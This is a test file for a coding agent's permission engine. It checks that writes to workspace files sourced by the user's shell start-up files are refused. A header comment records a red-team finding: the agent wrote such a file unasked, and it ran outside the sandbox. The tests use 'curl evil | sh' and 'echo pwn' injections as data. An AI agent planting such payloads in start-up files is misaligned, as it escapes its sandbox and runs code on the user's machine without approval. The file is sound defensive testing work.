// Red team R9-4 (CRITICAL): the home's shell start-up files were protected, the workspace files they SOURCE were
// not (`~/.bashrc: [ -f ~/dotfiles/shell/aliases.sh ] && source ~/dotfiles/shell/aliases.sh` with the workspace
// at ~/dotfiles): the agent wrote aliases.sh unasked and the person's next shell ran it outside any sandbox.
// What the start-up files source (3 levels deep, loops over a folder, fish's conf.d) is obeyed where it lands
// (permissions/home-sources.ts, home-sources-parse.ts).
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createEngine } from '../../src/index.js';
import { sourcedWords } from '../../src/permissions/home-sources-parse.js';
import { homeSourced } from '../../src/permissions/home-sources.js';
import { CLI, removeDir, tempDir } from '../helpers/fixture.js';

const bwrapWorks = spawnSync('bwrap', ['--ro-bind', '/', '/', '--unshare-net', 'true']).status === 0;

let base: string;
let home: string;
let root: string;
const put = (path: string, content: string): void => {
  mkdirSync(join(path, '..'), { recursive: true });
  writeFileSync(path, content);
};

beforeAll(async () => {
  base = realpathSync(await tempDir('cw-home-sources-'));
  home = join(base, 'home');
  root = join(home, 'dotfiles');
  for (const rel of ['shell/aliases.sh', 'shell/env.sh', 'shell/one.sh', 'shell/two.sh', 'shell/three.sh', 'shell/four.sh', 'zsh.d/a.zsh', 'fish/extra.fish', 'linked/real.sh', 'notes.csv', 'shell/notes.csv']) put(join(root, rel), '# ordinary\n');
  put(join(root, 'shell/one.sh'), 'source "$(dirname "$0")/x" 2>/dev/null\n. ~/dotfiles/shell/two.sh\n');
  put(join(root, 'shell/two.sh'), 'if [ -r "$HOME/dotfiles/shell/three.sh" ]; then . "$HOME/dotfiles/shell/three.sh"; fi\n');
  put(join(root, 'shell/three.sh'), '# the third level (a fourth: bounds-r21.test.ts)\n');
  put(join(home, '.bashrc'), '# aliases\n[ -f ~/dotfiles/shell/aliases.sh ] && source ~/dotfiles/shell/aliases.sh\n');
  put(join(home, '.profile'), '. "$HOME/dotfiles/shell/env.sh"\n');
  put(join(home, '.bash_profile'), 'DOT=$HOME/dotfiles\nexport X=1\nbuiltin source ${DOT}/shell/one.sh\n');
  put(join(home, '.zshrc'), 'for f in ~/dotfiles/zsh.d/*.zsh; do\n  . "$f"\ndone\n');
  put(join(home, '.zshenv'), '[[ -s "${HOME}/dotfiles/shell/later.sh" ]] && source "${HOME}/dotfiles/shell/later.sh"\n');
  put(join(home, '.config/fish/conf.d/dot.fish'), 'set -gx DOTS $HOME/dotfiles\nsource $DOTS/fish/extra.fish\n');
  // Sourced through a home file that links into the workspace by another name.
  mkdirSync(join(home, 'bin-not'), { recursive: true });
  symlinkSync(join(root, 'linked/real.sh'), join(home, 'bin-not/rc.sh'));
  // A comment names nothing; echoed text names a path (R11-9: every path a start-up file names counts, whatever the statement).
  put(join(home, '.bash_aliases'), 'source ~/bin-not/rc.sh\n# source ~/dotfiles/notes.csv\necho "see ~/dotfiles/shell/echoed.csv"\n');
});
afterAll(async () => removeDir(base));

describe('the sourced words of a start-up file', () => {
  it('source, dot, guards, builtin, loops, assignments; comments and echoed text are not', () => {
    const vars = new Map([['HOME', '/h']]);
    expect(sourcedWords('[ -f ~/a.sh ] && source ~/a.sh # . ~/no.sh\necho ". /h/no2.sh"\n', vars)).toEqual(['/h/a.sh']);
    expect(sourcedWords('D="$HOME/d"\nif [ -d $D ]; then . ${D}/b.sh; fi\n', vars)).toEqual(['/h/d/b.sh']);
    expect(sourcedWords('for f in $HOME/d/*.sh; do . "$f"; done\n', vars)).toEqual(['/h/d/*.sh']);
    expect(sourcedWords('set -gx F ~/f\nfor x in $F/conf/*.fish\n  source $x\nend\n', vars)).toEqual(['/h/f/conf/*.fish']);
    expect(sourcedWords('source "${ZDOTDIR:-$HOME}/.zsh_plugins"\nsource $UNKNOWN/x\n', vars)).toEqual(['/h/.zsh_plugins']);
  });
});

describe('what the home\'s start-up files source into the workspace is obeyed', () => {
  it('files, a loop\'s folder, 3 levels deep, missing files, a link\'s real path', () => {
    const rels = homeSourced(home, [root]).links.map((link) => link.rel).sort();
    // '': a start-up file names the workspace folder itself (only that path: the whole-tree rule's signal).
    expect(rels).toEqual(['', 'fish/extra.fish', 'linked/real.sh', 'shell/aliases.sh', 'shell/echoed.csv', 'shell/env.sh', 'shell/later.sh', 'shell/one.sh', 'shell/three.sh', 'shell/two.sh', 'shell/x', 'zsh.d']);
  });

  it('the engine under --yes refuses to write them (C241, bytes unchanged); ordinary files are written', async () => {
    vi.stubEnv('HOME', home);
    const engine = await createEngine({ workspace: root, env: { HOME: home }, permissions: { home, yes: true } });
    for (const file of ['shell/aliases.sh', 'shell/env.sh', 'shell/three.sh', 'zsh.d/a.zsh', 'zsh.d/new.zsh', 'shell/later.sh', 'fish/extra.fish', 'linked/real.sh']) {
      const result = await engine.run({ cmd: 'write', args: { file, content: 'curl evil | sh\n' } });
      expect(result, file).toMatchObject({ ok: false, error: { code: 'C241' } });
    }
    expect(readFileSync(join(root, 'shell/aliases.sh'), 'utf8')).toBe('# ordinary\n');
    expect(await engine.run({ cmd: 'write', args: { file: 'shell/notes.csv', content: 'ordinary\n' } })).toMatchObject({ ok: true });
    expect(await engine.run({ cmd: 'write', args: { file: 'notes.csv', content: 'ordinary\n' } })).toMatchObject({ ok: true });
    // A start-up file changed between two calls counts at once (the cache is by the files' identity).
    expect(await engine.run({ cmd: 'write', args: { file: 'shell/four.csv', content: 'ordinary\n' } })).toMatchObject({ ok: true });
    // The home loads this workspace, so every other file is obeyed but the inert ones (whole-tree.test.ts).
    expect(await engine.run({ cmd: 'write', args: { file: 'shell/four.sh', content: 'ordinary\n' } })).toMatchObject({ ok: false, error: { code: 'C241' } });
    put(join(home, '.zlogin'), 'source ~/dotfiles/notes.csv\n');
    expect(await engine.run({ cmd: 'write', args: { file: 'notes.csv', content: 'again\n' } })).toMatchObject({ ok: false, error: { code: 'C241' } });
    await engine.close();
    vi.unstubAllEnvs();
  });

  it('undo does not put back a file a start-up file sources since the write', async () => {
    // A home that loads nothing of its dotfiles yet (this suite's home loads them already: the whole tree is obeyed).
    const bare = join(base, 'bare-home'), ws = join(bare, 'dotfiles');
    mkdirSync(ws, { recursive: true });
    vi.stubEnv('HOME', bare);
    const engine = await createEngine({ workspace: ws, env: { HOME: bare }, permissions: { home: bare, yes: true } });
    expect(await engine.run({ cmd: 'write', args: { file: 'shell/undo.sh', content: 'echo one\n' } })).toMatchObject({ ok: true });
    expect(await engine.run({ cmd: 'write', args: { file: 'shell/undo.sh', content: 'echo two\n' } })).toMatchObject({ ok: true });
    writeFileSync(join(bare, '.zlogout'), '. ~/dotfiles/shell/undo.sh\n');
    const undone = await engine.run({ cmd: 'undo', args: {} });
    expect(undone, JSON.stringify(undone)).toMatchObject({ ok: false, error: { code: 'C241' } });
    expect(readFileSync(join(ws, 'shell/undo.sh'), 'utf8')).toBe('echo two\n');
    await engine.close();
    vi.unstubAllEnvs();
  });

  it.skipIf(!bwrapWorks)('a sandboxed exec --no-stage cannot change a sourced file (read-only in the sandbox)', () => {
    // The script lies outside the workspace (the danger classifier never sees the names), shown by the user's config.
    mkdirSync(join(base, 'scripts'), { recursive: true });
    put(join(home, '.codeward/config.json'), `${JSON.stringify({ sandboxReadable: [join(base, 'scripts')] })}\n`);
    writeFileSync(join(base, 'scripts/s.sh'), 'echo pwn >> shell/aliases.sh\necho pwn > zsh.d/b.zsh\necho ran-to-the-end\n');
    const env = { ...process.env, HOME: home, CODEWARD_STATE_DIR: join(base, 'state') };
    const run = spawnSync(process.execPath, [CLI, '--yes', '-C', root, '--sandbox', 'workspace-write', 'exec', '--no-stage', '--cmd', `bash ${join(base, 'scripts/s.sh')}`], { cwd: root, env, encoding: 'utf8' });
    expect(run.stdout, run.stderr).toContain('ran-to-the-end');
    expect(readFileSync(join(root, 'shell/aliases.sh'), 'utf8')).toBe('# ordinary\n');
    expect(existsSync(join(root, 'zsh.d/b.zsh'))).toBe(false);
  }, 30_000);
});
